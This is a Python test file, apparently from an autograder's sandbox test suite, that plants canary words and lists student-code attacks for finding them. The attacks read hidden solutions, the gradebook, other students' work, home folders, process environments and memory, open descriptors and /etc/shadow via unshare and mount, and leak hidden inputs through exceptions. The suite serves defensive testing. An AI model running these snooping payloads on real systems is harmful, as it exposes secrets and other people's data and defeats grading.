"""Reading, writing and sending what no student may.

What a reader finds it prints; `tests.attacks.world` plants words to be found and looks for them in all that comes back.
"""

from tests.attacks.attack import tests_of
from tests.attacks.corpus.kinds import Family

family = Family("snooping")
honest, cheat = family.honest, family.cheat

# Prints every planted word that is found in a text; the word itself does not stand in the student's code.
LEAK = """
def leak(*texts):
    import re
    for text in texts:
        if isinstance(text, bytes):
            text = text.decode("utf-8", "replace")
        for word in sorted(set(re.findall("CAN" + "ARY-[a-z]+-[0-9a-f]+", text if isinstance(text, str) else repr(text))))[:9]:
            print(word)

def leak_file(path, size=3_000_000):
    try:
        with open(path, "rb") as file:
            leak(file.read(size))
    except (OSError, ValueError):
        pass

def leak_folder(path, most=400):
    import os, itertools
    found = (os.path.join(place, name) for place, _, names in os.walk(path) for name in names)
    for each in itertools.islice(found, most):
        if os.path.isfile(each):
            leak_file(each)
"""


def reads(id: str, tries: str, code: str, where: str = "identity", **more) -> None:
    honest(id, tries, LEAK + code, where=where, **more)


reads("reads-source", "The source with solutions and hidden tests.", 'leak_folder("@ROOT@/source")')
reads("reads-upwards", "Everything in the folders above the work folder.", """
import os
place = os.getcwd()
for _ in range(4):
    place = os.path.dirname(place)
    if place != "/":
        leak_folder(place)
""")
reads("reads-authors-source", "The course's own source, and the folder around.", 'leak_folder("@COURSE@/course")')
reads("reads-gradebook", "The gradebook, as a file and as a database.", """
leak_file("@ROOT@/gradebook.db")
try:
    import sqlite3
    with sqlite3.connect("file:@ROOT@/gradebook.db?mode=ro", uri=True) as book:
        for table in ("student", "source_cell", "comment", "grade"):
            leak(*map(repr, book.execute(f"select * from {table}")))
except Exception:
    pass
""")
reads("reads-neighbour", "Other students' submissions and grades.", """
for step in ("submitted", "autograded", "feedback"):
    leak_folder("@ROOT@/" + step + "/neighbour")
""")
reads("reads-home", "The home folder, however it is called.", """
import os, pathlib
for place in {"@HOME@", os.path.expanduser("~"), os.environ.get("HOME", ""), str(pathlib.Path.home())} - {"", "/"}:
    leak_folder(place)
""")
reads("reads-environment", "Environment variables, its own and those of every process.", """
import glob, os
leak(repr(dict(os.environ)))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    leak_file(path)
""")
reads("reads-proc", "Other processes' folders and open files, by way of /proc.", """
import glob, os
for process in glob.glob("/proc/[0-9]*"):
    for way in ("root@ROOT@/source", "cwd/source", "cwd/assignments/en/source"):
        leak_folder(os.path.join(process, way), most=20)
    try:
        for link in os.listdir(process + "/fd"):
            if os.path.isfile(f"{process}/fd/{link}"):
                leak_file(f"{process}/fd/{link}")
    except OSError:
        pass
""")
reads("reads-memory", "The memory of its own process and of its ancestors.", """
import os, re

def memory(process, budget=300 << 20):
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb") as mem:
        for line in maps:
            first, last, how = re.match(r"(\\w+)-(\\w+) (\\S+)", line).groups()
            first, size = int(first, 16), int(last, 16) - int(first, 16)
            if "rw" in how and size <= budget:
                budget -= size
                try:
                    mem.seek(first)
                    leak(mem.read(size))
                except (OSError, ValueError, OverflowError):
                    pass

me = os.getpid()
for process in {me, os.getppid(), *range(1, 12)}:
    try:
        memory(process)
    except (OSError, MemoryError):
        pass
""", where="moved")
reads("reads-objects", "Every object that the garbage collector knows: modules, code, strings kept by the runner.", """
import gc
for each in gc.get_objects():
    if isinstance(each, (dict, list, tuple)) and len(each) < 5_000:
        try:
            leak(*[one for one in (each.values() if isinstance(each, dict) else each) if isinstance(one, (str, bytes))])
        except RuntimeError:
            pass
    leak(getattr(getattr(each, "__code__", None), "co_consts", ()))
""", where="moved")
reads("reads-descriptors", "Whatever the open file descriptors still give.", """
import os
for descriptor in range(3, 64):
    try:
        copy = os.dup(descriptor)
        os.set_blocking(copy, False)
        leak(os.pread(copy, 3_000_000, 0) if os.path.isfile(f"/proc/self/fd/{descriptor}") else os.read(copy, 65_536))
    except (OSError, ValueError):
        pass
""", where="moved", loses=("moved",), may_earn=tests_of("moved", "relation", "purchases", "tier", "top", "invest"))
reads("reads-temporary", "Temporary folders, shared memory, mounts.", """
import tempfile
for place in {"/tmp", "/var/tmp", "/dev/shm", "/run", tempfile.gettempdir()}:
    leak_folder(place)
leak_file("/proc/self/mountinfo")
""")
reads("reads-as-root", "The machine's own secrets, a mount and a chroot of its own.", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000)
libc.unshare(0x00020000)
os.makedirs("m", exist_ok=True)
if libc.mount(b"/", b"m", None, 4096 | 16384, None) == 0:
    leak_folder("m@ROOT@/source")
    leak_folder("m@HOME@")
    libc.umount2(b"m", 2)
leak_file("/etc/shadow")
""")
reads("hidden-tests-printed", "The function prints its caller: frames, history, lines kept for tracebacks.", """
import sys, linecache
def spying(profit, loyalty, rule=relation, **more):
    frame = sys._getframe(1)
    while frame:
        leak(frame.f_code.co_consts, frame.f_locals, {k: v for k, v in list(frame.f_globals.items()) if k.startswith("hidden")})
        frame = frame.f_back
    leak(list(linecache.cache.values()), get_ipython().user_ns.get("In"))
    return rule(profit, loyalty, **more)
relation = spying
""", where="relation")
# What a function is given is the one thing that it can't be kept from; it must not come into the feedback.
head = "def purchases(log):\n    "
for id, tries, code in (
    ("input-printed", "prints it", "print(log.to_string())\n    return {}"),
    ("input-raised", "raises it as an exception", "raise ValueError(log.to_string())"),
    ("input-returned", "returns it", "return {who: (1, 1.0) for who in log['customer']}"),
    ("input-returned-as-text", "returns it as a text", "return log.to_string()"),
    ("input-as-assertion", "raises it as a failed assertion", "raise AssertionError(' '.join(log['customer']))"),
    ("input-as-error-name", "raises an error named after it", "raise type(log['customer'][0], (Exception,), {})()"),
    ("input-as-no-error", "raises what is no Exception, named after it", "raise type(log['customer'][0], (BaseException,), {})()"),
    ("input-as-type-name", "returns an object whose type is named after it", "return type(log['customer'][0], (), {})()"),
    ("input-as-key", "returns it as a dictionary's key and a column's name", "return log.T.set_axis(log['customer'], axis=1)"),
    ("input-as-words", "raises errors of the course's own kinds with it", """from crmlib.errors import CrmError
    from crmlib.errors import ClosedBookError
    raise (ClosedBookError if len(log) > 2 else CrmError)(*log['customer'][:2])"""),
):
    cheat(id, f"The function {tries}, so that the hidden input stands in the feedback.", answers={"purchases": head + code})
cheat("solutions-copied", "The solutions are read from the source and executed.", """
import glob, json
for path in glob.glob("@ROOT@/source/*/*.ipynb") + glob.glob("@ROOT@/../../course/assignments/*.md"):
    try:
        for cell in json.load(open(path))["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
                get_ipython().user_ns[cell["metadata"]["nbgrader"]["grade_id"] + "_copied"] = "".join(cell["source"])
    except Exception:
        pass
""", answers={name: f'{text}\nexec(globals().get("{name}_copied", ""))' for name, text in {
    "tier": "def tier(profits, vip=0.80, important=0.95):\n    return []",
    "purchases": "def purchases(log):\n    return {}",
    "relation": "def relation(profit, loyalty, high_profit=600, high_loyalty=0.5):\n    return ''",
    "top": "top_fifth = 0.123", "invest": "invest_most = ['K1']", "moved": "moved_up = 40"}.items()})
